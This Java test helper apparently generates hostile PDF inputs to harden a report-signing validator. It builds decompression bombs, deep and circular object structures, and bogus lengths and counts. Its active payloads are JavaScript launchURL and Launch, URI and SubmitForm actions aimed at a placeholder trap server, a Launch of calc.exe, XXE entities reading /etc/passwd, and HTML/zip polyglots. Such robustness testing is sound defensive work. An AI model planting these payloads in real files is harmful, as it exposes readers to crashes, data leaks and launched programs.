package nl.impactwijzer.report.signing;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;

/// PDF files made to hurt whoever opens them.
final class HostilePdfs {
    private static final int DEEP = 100_000;

    private HostilePdfs() {}

    record Hostile(String name, Supplier<byte[]> bytes) {
        @Override
        public String toString() {
            return name;
        }
    }

    /// What is read and judged in a moment.
    ///
    /// @param trap the address of a server that nobody may ask
    static List<Hostile> light(String trap) {
        return Stream.of(depths(), circles(), lies(), fonts(), shapes(), scripts(trap), actions(trap), elsewhere(trap))
                .flatMap(List::stream)
                .toList();
    }

    /// What needs the limits of a process of its own.
    static List<Hostile> heavy() {
        return Stream.of(bombs(), crowds()).flatMap(List::stream).toList();
    }

    static List<Hostile> bombs() {
        return List.of(
                of("a bomb on a page", () -> new RawPdf().stream(4, "/Filter /FlateDecode", RawPdf.bomb(200, ' '))),
                of(
                        "a bomb of one text on a page",
                        () -> new RawPdf().stream(4, "/Filter /FlateDecode", RawPdf.bomb(2_000, '('))),
                of(
                        "a bomb in a bomb in a bomb",
                        () -> new RawPdf()
                                .stream(
                                        4,
                                        "/Filter [/FlateDecode /FlateDecode /FlateDecode]",
                                        RawPdf.deflated(RawPdf.deflated(RawPdf.bomb(4_000, ' '))))),
                of(
                        "a chain of 50,000 filters",
                        () -> new RawPdf()
                                .stream(4, "/Filter [" + "/ASCIIHexDecode ".repeat(50_000) + "]", RawPdf.latin("20>"))),
                of(
                        "runs of letters",
                        () -> new RawPdf()
                                .stream(4, "/Filter [/FlateDecode /RunLengthDecode]", RawPdf.bomb(100, '\u0081'))),
                of("a bomb in a list of objects", HostilePdfs::bombInAnObjectStream),
                of("a bomb as the table of objects", HostilePdfs::bombAsATable),
                of("a bomb as an attached dossier", () -> attached(RawPdf.bomb(2_000, ' '))),
                of(
                        "a bomb as a font",
                        () -> new RawPdf()
                                        .object(
                                                5,
                                                "<< /Type /Font /Subtype /TrueType /BaseFont /AAAAAA+Bom"
                                                        + " /FontDescriptor 6 0 R >>")
                                        .object(
                                                6,
                                                "<< /Type /FontDescriptor /FontName /AAAAAA+Bom /Flags 4 /FontFile2 7"
                                                        + " 0 R >>")
                                        .stream(7, "/Filter /FlateDecode", RawPdf.bomb(2_000, ' '))));
    }

    static List<Hostile> depths() {
        return List.of(
                of(
                        "lists in lists",
                        () -> new RawPdf()
                                .object(6, "[".repeat(DEEP) + "]".repeat(DEEP))
                                .trailer("/Info 6 0 R")),
                of(
                        "dictionaries in dictionaries",
                        () -> new RawPdf()
                                .object(6, "<< /A ".repeat(DEEP) + "1" + " >>".repeat(DEEP))
                                .trailer("/Info 6 0 R")),
                of("lists in lists on a page", () -> new RawPdf().stream(4, "", RawPdf.latin("[".repeat(5_000_000)))),
                of(
                        "saved states on a page",
                        () -> new RawPdf()
                                .stream(
                                        4,
                                        "/Filter /FlateDecode",
                                        RawPdf.deflated(RawPdf.latin("q ".repeat(3_000_000))))),
                of("a deep tree of pages", () -> {
                    RawPdf pdf = new RawPdf().object(2, "<< /Type /Pages /Kids [10 0 R] /Count 1 >>");
                    for (int i = 10; i < 10 + 20_000; i++) {
                        pdf.object(
                                i,
                                "<< /Type /Pages /Parent " + (i == 10 ? 2 : i - 1) + " 0 R /Count 1 /Kids ["
                                        + (i == 20_009 ? 3 : i + 1) + " 0 R] >>");
                    }
                    return pdf;
                }),
                of("a deep tree of names", () -> {
                    RawPdf pdf = new RawPdf()
                            .object(1, "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 10 0 R >> >>");
                    for (int i = 10; i < 10 + 20_000; i++) {
                        pdf.object(i, "<< /Kids [" + (i + 1) + " 0 R] >>");
                    }
                    return pdf;
                }),
                of("a deep tree of fields", () -> {
                    RawPdf pdf = new RawPdf()
                            .object(1, "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [10 0 R] >> >>");
                    for (int i = 10; i < 10 + 20_000; i++) {
                        pdf.object(i, "<< /T (a) /Parent " + (i - 1) + " 0 R /Kids [" + (i + 1) + " 0 R] >>");
                    }
                    return pdf.object(20_010, "<< /T (a) /FT /Sig /Parent 20009 0 R /V << /Type /Sig >> >>");
                }));
    }

    static List<Hostile> circles() {
        return List.of(
                laughs(),
                of(
                        "a tree of pages that holds itself",
                        () -> new RawPdf().object(2, "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>")),
                of(
                        "pages that hold each other",
                        () -> new RawPdf()
                                .object(2, "<< /Type /Pages /Kids [6 0 R] /Count 9 >>")
                                .object(6, "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 9 >>")),
                of(
                        "a page that is its own parent",
                        () -> new RawPdf().object(3, "<< /Type /Page /Parent 3 0 R /Contents 4 0 R >>")),
                of("a table before itself", () -> new RawPdf().trailer("/Prev SELF")),
                of("a table with itself as stream", () -> new RawPdf().trailer("/XRefStm SELF")),
                of("two tables before each other", HostilePdfs::twoTables),
                of("a list of objects in itself", HostilePdfs::objectStreamInItself),
                of("a length that is itself", () -> new RawPdf().streamOfLength(4, "", "4 0 R", RawPdf.latin("BT ET"))),
                of(
                        "a name that is itself",
                        () -> new RawPdf()
                                .object(1, "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>")
                                .object(6, "<< /Kids [6 0 R] >>")),
                of(
                        "a reference to itself",
                        () -> new RawPdf().object(6, "6 0 R").trailer("/Info 6 0 R")),
                of(
                        "fields that hold each other",
                        () -> new RawPdf()
                                .object(1, "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>")
                                .object(6, "<< /T (a) /Kids [7 0 R] /Parent 7 0 R >>")
                                .object(7, "<< /T (b) /Kids [6 0 R] /Parent 6 0 R >>")),
                of(
                        "a picture that shows itself",
                        () -> new RawPdf()
                                .object(3, RawPdf.page("").replace("/Font", "/XObject << /X 6 0 R >> /Font")).stream(
                                        4, "", RawPdf.latin("/X Do"))
                                        .stream(
                                                6,
                                                "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject"
                                                        + " << /X 6 0 R >> >>",
                                                RawPdf.latin("/X Do /X Do"))),
                of(
                        "a letter that shows itself",
                        () -> new RawPdf()
                                        .object(
                                                5,
                                                "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0"
                                                    + " 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding <<"
                                                    + " /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources"
                                                    + " << /Font << /F1 5 0 R >> >> >>")
                                        .stream(4, "", RawPdf.latin("BT /F1 12 Tf (aaaa) Tj ET"))
                                        .stream(6, "", RawPdf.latin("9 0 d0 BT /F1 12 Tf (aaaa) Tj ET"))));
    }

    /// Ten pictures each show ten times the next.
    private static Hostile laughs() {
        return of("ten times ten times ten", () -> {
            RawPdf pdf = new RawPdf()
                    .object(3, RawPdf.page("").replace("/Font", "/XObject << /X 10 0 R >> /Font")).stream(
                            4, "", RawPdf.latin("/X Do"));
            for (int i = 10; i < 22; i++) {
                pdf.stream(
                        i,
                        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X " + (i + 1)
                                + " 0 R >> >>",
                        RawPdf.latin("/X Do ".repeat(10)));
            }
            return pdf;
        });
    }

    static List<Hostile> lies() {
        return List.of(
                of(
                        "a length of two milliards",
                        () -> new RawPdf().streamOfLength(4, "", "2147483647", RawPdf.latin("BT ET"))),
                of(
                        "a length beyond counting",
                        () -> new RawPdf().streamOfLength(4, "", "9".repeat(40), RawPdf.latin("BT ET"))),
                of("a length below nothing", () -> new RawPdf().streamOfLength(4, "", "-1", RawPdf.latin("BT ET"))),
                of(
                        "two milliards of pages",
                        () -> new RawPdf().object(2, "<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>")),
                of(
                        "fewer pages than none",
                        () -> new RawPdf().object(2, "<< /Type /Pages /Kids [3 0 R] /Count -2147483648 >>")),
                of(
                        "one page two thousand times",
                        () -> new RawPdf()
                                .object(2, "<< /Type /Pages /Kids [" + "3 0 R ".repeat(1_999) + "] /Count 1999 >>")),
                of("a table of two milliards", () -> replaced(new RawPdf().bytes(), "0 1\n", "0 2147483647\n")),
                of(
                        "a table that starts at the end of numbers",
                        () -> replaced(new RawPdf().bytes(), "0 1\n", "2147483646 9\n")),
                of("a negative place", () -> replaced(new RawPdf().bytes(), "startxref\n", "startxref\n-")),
                of("a size of two milliards", () -> replaced(new RawPdf().bytes(), "/Size 100", "/Size 2147483647")),
                of(
                        "a predictor of a million columns",
                        () -> new RawPdf()
                                .stream(
                                        4,
                                        "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2147483647"
                                                + " /Colors 32 /BitsPerComponent 16 >>",
                                        RawPdf.deflated(RawPdf.latin("BT ET")))),
                of(
                        "an attached file without a file",
                        () -> new RawPdf()
                                .object(
                                        1,
                                        "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names"
                                                + " [(dossier.json) << /Type /Filespec /F (dossier.json) >> (b) 3 (c)"
                                                + " null] >> >> >>")),
                of("a catalog that is a number", () -> new RawPdf().object(1, "17")),
                of("pages that are a text", () -> new RawPdf().object(2, "(pages)")),
                of(
                        "kids that are no pages",
                        () -> new RawPdf().object(2, "<< /Type /Pages /Kids [1 null (a) [ ] 5 0 R] /Count 5 >>")),
                of(
                        "a signature that is a number",
                        () -> new RawPdf()
                                .object(
                                        1,
                                        "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] /SigFlags 3 >> >>")
                                .object(6, "<< /FT /Sig /T (Handtekening1) /V 12 >>")));
    }

    static List<Hostile> crowds() {
        return List.of(
                of("a million small objects", () -> {
                    StringBuilder all = new StringBuilder("%PDF-1.7\n");
                    for (int i = 1; i <= 1_000_000; i++) {
                        all.append(i).append(" 0 obj\n1\nendobj\n");
                    }
                    return RawPdf.latin(
                            all.append("trailer\n<< /Root 1 0 R >>\n%%EOF\n").toString());
                }),
                of("five million objects in a table", HostilePdfs::fiveMillion),
                of("twenty thousand updates", () -> {
                    StringBuilder all =
                            new StringBuilder(new String(new RawPdf().bytes(), StandardCharsets.ISO_8859_1));
                    int previous = all.indexOf("xref\n0");
                    for (int i = 0; i < 20_000; i++) {
                        int start = all.length();
                        all.append("xref\n0 0\ntrailer\n<< /Root 1 0 R /Size 100 /Prev ")
                                .append(previous)
                                .append(" >>\nstartxref\n")
                                .append(start)
                                .append("\n%%EOF\n");
                        previous = start;
                    }
                    return RawPdf.latin(all.toString());
                }),
                of("thousands of signatures", () -> {
                    RawPdf pdf = new RawPdf()
                            .object(
                                    1,
                                    "<< /Type /Catalog /Pages 2 0 R /AcroForm << /SigFlags 3 /Fields ["
                                            + IntStream.range(10, 5_010)
                                                    .mapToObj(i -> i + " 0 R")
                                                    .collect(Collectors.joining(" "))
                                            + "] >> >>");
                    for (int i = 10; i < 5_010; i++) {
                        pdf.object(
                                i,
                                "<< /FT /Sig /T (s" + i
                                        + ") /V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached"
                                        + " /ByteRange [0 10 20 30] /Contents <30> >> >>");
                    }
                    return pdf;
                }),
                of(
                        "ten thousand attached files",
                        () -> new RawPdf()
                                        .object(
                                                1,
                                                "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names ["
                                                        + IntStream.range(0, 10_000)
                                                                .mapToObj(i -> "(" + i + ") 6 0 R ")
                                                                .collect(Collectors.joining())
                                                        + "] >> >> >>")
                                        .object(6, "<< /Type /Filespec /F (a) /EF << /F 7 0 R >> >>")
                                        .stream(7, "/Type /EmbeddedFile", RawPdf.latin("x"))),
                of(
                        "widths of two milliard letters",
                        () -> new RawPdf()
                                .object(
                                        5,
                                        "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H"
                                            + " /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X"
                                            + " /W [0 2147483647 500] /CIDSystemInfo << /Registry (Adobe) /Ordering"
                                            + " (Identity) /Supplement 0 >> >>] >>")),
                of(
                        "a page of thirty million letters",
                        () -> new RawPdf()
                                .stream(
                                        4,
                                        "/Filter /FlateDecode",
                                        RawPdf.deflated(RawPdf.latin("BT /F1 12 Tf "
                                                + ("(" + "a".repeat(10_000) + ") Tj ").repeat(3_000) + "ET")))),
                of(
                        "a producer of fifty million letters",
                        () -> new RawPdf()
                                .object(6, "<< /Producer (" + "a".repeat(50_000_000) + ") >>")
                                .trailer("/Info 6 0 R")));
    }

    static List<Hostile> fonts() {
        return List.of(
                of(
                        "a map of four milliard letters",
                        () -> new RawPdf()
                                        .object(
                                                5,
                                                "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H"
                                                    + " /ToUnicode 6 0 R /DescendantFonts [<< /Type /Font /Subtype"
                                                    + " /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe)"
                                                    + " /Ordering (Identity) /Supplement 0 >> >>] >>")
                                        .stream(
                                                6,
                                                "",
                                                RawPdf.latin("1 begincodespacerange <00000000> <FFFFFFFF>"
                                                        + " endcodespacerange\n"
                                                        + "1 beginbfrange <00000000> <FFFFFFFF> <0041>"
                                                        + " endbfrange\n"
                                                        + "1 begincidrange <00000000> <FFFFFFFF> 0 endcidrange"))),
                of(
                        "a map that uses itself",
                        () -> new RawPdf()
                                        .object(
                                                5,
                                                "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 6 0 R"
                                                        + " /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2"
                                                        + " /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering"
                                                        + " (Identity) /Supplement 0 >> >>] >>")
                                        .stream(
                                                6,
                                                "/Type /CMap /CMapName /Zelf /UseCMap 6 0 R",
                                                RawPdf.latin(
                                                        "/Zelf usecmap 1 begincidrange <0000> <FFFF> 0 endcidrange"))),
                of(
                        "a descendant that is its own",
                        () -> new RawPdf()
                                .object(
                                        5,
                                        "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H"
                                                + " /DescendantFonts [5 0 R] >>")));
    }

    /// Programs.
    static List<Hostile> scripts(String trap) {
        String script = "<< /S /JavaScript /JS (app.launchURL\\('" + trap + "'\\)) >>";
        return List.of(
                inCatalog("/OpenAction " + script),
                inCatalog("/AA << /WC " + script + " /DS " + script + " >>"),
                inCatalog("/Names << /JavaScript << /Names [(a) " + script + "] >> >>"),
                onPage("/AA << /O " + script + " >>"),
                onPage("/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://x.invalid)"
                        + " /Next " + script + " >> >>]"));
    }

    /// What starts, sends or plays something.
    static List<Hostile> actions(String trap) {
        String file = "<< /FS /URL /F (" + trap + ") >>";
        return List.of(
                inCatalog("/OpenAction << /S /URI /URI (" + trap + ") >>"),
                inCatalog("/OpenAction << /S /Launch /F (" + trap + ") >>"),
                inCatalog("/OpenAction << /S /SubmitForm /F " + file + " >>"),
                inCatalog("/OpenAction << /S /ImportData /F (" + trap + ") >>"),
                inCatalog("/OpenAction << /S /GoToR /F " + file + " /D [0 /Fit] >>"),
                inCatalog("/OpenAction << /S /GoToE /F " + file + " /D [0 /Fit] >>"),
                inCatalog("/OpenAction << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D " + file + " >> >> >>"),
                onPage("/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>]"),
                onPage("/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///etc/passwd)"
                        + " >> >>]"),
                onPage("/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>]"));
    }

    /// What shows something that is not in the file, or not always.
    static List<Hostile> elsewhere(String trap) {
        String file = "<< /FS /URL /F (" + trap + ") >>";
        return List.of(
                inCatalog("/AcroForm << /Fields [] /XFA (<!DOCTYPE a SYSTEM '" + trap + "'><xdp/>) >>"),
                inCatalog("/OCProperties << /OCGs [] /D << /Order [] >> >>"),
                inCatalog("/Names << /EmbeddedFiles << /Names [(dossier.json) << /Type /Filespec /FS /URL /F (" + trap
                        + ") >>] >> >>"),
                inCatalog("/AF [<< /Type /Filespec /F (dossier.json) >>]"),
                of("a page from elsewhere", () -> new RawPdf().streamOfLength(4, "/F " + file, "0", new byte[0])),
                of(
                        "a picture from another file",
                        () -> new RawPdf()
                                .object(3, RawPdf.page("").replace("/Font", "/XObject << /X 6 0 R >> /Font")).stream(
                                        4, "", RawPdf.latin("/X Do"))
                                        .stream(
                                                6,
                                                "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F " + file
                                                        + " /Page 0 >>",
                                                new byte[0])),
                of(
                        "a font from elsewhere",
                        () -> new RawPdf()
                                .object(
                                        5,
                                        "<< /Type /Font /Subtype /TrueType /BaseFont /Elders /FontDescriptor 6 0 R >>")
                                .object(6, "<< /Type /FontDescriptor /FontName /Elders /Flags 4 /FontFile2 7 0 R >>")
                                .streamOfLength(7, "/F " + file, "0", new byte[0])));
    }

    private static Hostile inCatalog(String entry) {
        return of("catalog " + entry, () -> new RawPdf().object(1, "<< /Type /Catalog /Pages 2 0 R " + entry + " >>"));
    }

    private static Hostile onPage(String entry) {
        return of("page " + entry, () -> new RawPdf().object(3, RawPdf.page(entry)));
    }

    static List<Hostile> shapes() {
        return List.of(
                of(
                        "metadata that name a file",
                        () -> new RawPdf()
                                .object(1, "<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R >>").stream(
                                        6,
                                        "/Type /Metadata /Subtype /XML",
                                        RawPdf.latin(
                                                "<!DOCTYPE x [<!ENTITY % e SYSTEM 'file:///etc/passwd'> %e;]><x/>"))),
                of("a zip in front", () -> joined(zip(), new RawPdf().bytes())),
                of("a zip behind", () -> joined(new RawPdf().bytes(), zip())),
                of(
                        "a web page in front",
                        () -> joined(RawPdf.latin("<html><script>alert(1)</script><!--"), new RawPdf().bytes())),
                of("two files one behind the other", () -> joined(new RawPdf().bytes(), new RawPdf().bytes())),
                of("a file with its head only", () -> RawPdf.latin("%PDF-1.7\n")),
                of("a file with its end only", () -> RawPdf.latin("startxref\n0\n%%EOF\n")),
                of(
                        "a hundred thousand ends",
                        () -> RawPdf.latin("%PDF-1.7\n" + "startxref\n0\n%%EOF\n".repeat(100_000))),
                of(
                        "a hundred thousand trailers",
                        () -> RawPdf.latin("%PDF-1.7\n" + "trailer\n<< /Root 1 0 R >>\n".repeat(100_000))));
    }

    private static Object bombInAnObjectStream() {
        byte[] bomb = RawPdf.bomb(2_000, ' ');
        return withTable(
                "6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + bomb.length + " >>\nstream\n",
                bomb,
                6);
    }

    private static Object objectStreamInItself() {
        byte[] data = RawPdf.latin("6 0 1 8 << /A 1 >> << /Type /Catalog /Pages 2 0 R >>");
        return withTable(
                "6 0 obj\n<< /Type /ObjStm /N 2 /First 8 /Extends 6 0 R /Length " + data.length + " >>\nstream\n",
                data,
                -6);
    }

    /// A file whose catalog stands in the stream of that number; with a minus, that stream too.
    private static byte[] withTable(String head, byte[] data, int stream) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(RawPdf.latin("%PDF-1.7\n"));
        int place = out.size();
        out.writeBytes(RawPdf.latin(head));
        out.writeBytes(data);
        out.writeBytes(RawPdf.latin("\nendstream\nendobj\n"));
        int table = out.size();
        byte[] rows = ByteBuffer.allocate(14)
                .put((byte) 2)
                .putInt(Math.abs(stream))
                .putShort((short) 0)
                .put((byte) (stream < 0 ? 2 : 1))
                .putInt(stream < 0 ? 6 : place)
                .putShort((short) 0)
                .array();
        out.writeBytes(RawPdf.latin(
                "7 0 obj\n<< /Type /XRef /Root 1 0 R /Size 8 /Index [1 1 6 1] /W [1 4 2] /Length 14 >>\nstream\n"));
        out.writeBytes(rows);
        out.writeBytes(RawPdf.latin("\nendstream\nendobj\nstartxref\n" + table + "\n%%EOF\n"));
        return out.toByteArray();
    }

    private static Object bombAsATable() {
        byte[] bomb = RawPdf.bomb(2_000, '\u0001');
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(RawPdf.latin("%PDF-1.7\n"));
        int table = out.size();
        out.writeBytes(
                RawPdf.latin("7 0 obj\n<< /Type /XRef /Root 1 0 R /Size 2000000000 /W [1 1 1] /Filter /FlateDecode"
                        + " /Length " + bomb.length + " >>\nstream\n"));
        out.writeBytes(bomb);
        out.writeBytes(RawPdf.latin("\nendstream\nendobj\nstartxref\n" + table + "\n%%EOF\n"));
        return out.toByteArray();
    }

    /// Each row says that an object stands at the start of the file.
    private static Object fiveMillion() {
        byte[] rows = RawPdf.bomb(15, '\u0001');
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(RawPdf.latin("%PDF-1.7\n"));
        int place = out.size();
        out.writeBytes(RawPdf.latin("1 0 obj\n<< /Type /Catalog >>\nendobj\n"));
        int table = out.size();
        out.writeBytes(RawPdf.latin("7 0 obj\n<< /Type /XRef /Root 1 0 R /Size 5000000 /W [1 1 1] /Filter /FlateDecode"
                + " /Length " + rows.length + " >>\nstream\n"));
        out.writeBytes(rows);
        out.writeBytes(RawPdf.latin("\nendstream\nendobj\nstartxref\n" + table + "\n%%EOF\n" + place));
        return out.toByteArray();
    }

    private static Object twoTables() {
        String first = new String(new RawPdf().bytes(), StandardCharsets.ISO_8859_1);
        int one = first.indexOf("xref\n0");
        int two = first.length() + 10;
        String changed = first.replace("/Size 100 ", "/Size 100 /Prev " + two);
        two = changed.length();
        changed = first.replace("/Size 100 ", "/Size 100 /Prev " + two);
        return RawPdf.latin(changed + "xref\n0 0\ntrailer\n<< /Root 1 0 R /Size 100 /Prev " + one + " >>\nstartxref\n"
                + two + "\n%%EOF\n");
    }

    private static RawPdf attached(byte[] deflated) {
        return new RawPdf()
                        .object(
                                1,
                                "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(dossier.json) 6 0"
                                        + " R] >> >> >>")
                        .object(
                                6,
                                "<< /Type /Filespec /F (dossier.json) /UF (dossier.json) /EF << /F 7 0 R /UF 7 0 R >>"
                                        + " >>")
                        .stream(7, "/Type /EmbeddedFile /Filter /FlateDecode", deflated);
    }

    /// A whole report, in which the dossier has another content.
    static byte[] withDossier(byte[] deflated) {
        return Tampering.rewritten(ComposedReports.DUTCH, document -> {
            COSStream stream = document.getDocumentCatalog()
                    .getNames()
                    .getEmbeddedFiles()
                    .getNames()
                    .get("dossier.json")
                    .getEmbeddedFileUnicode()
                    .getCOSObject();
            try (var out = stream.createRawOutputStream()) {
                out.write(deflated);
            }
            COSArray filters = new COSArray();
            filters.add(COSName.FLATE_DECODE);
            stream.setItem(COSName.FILTER, filters);
        });
    }

    private static byte[] replaced(byte[] pdf, String text, String by) {
        return RawPdf.latin(new String(pdf, StandardCharsets.ISO_8859_1).replace(text, by));
    }

    private static byte[] zip() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("dossier.json"));
            zip.write(RawPdf.latin("{}"));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] joined(byte[] first, byte[] second) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(first);
        out.writeBytes(second);
        return out.toByteArray();
    }

    private static Hostile of(String name, Supplier<Object> made) {
        return new Hostile(name, () -> made.get() instanceof RawPdf raw ? raw.bytes() : (byte[]) made.get());
    }
}
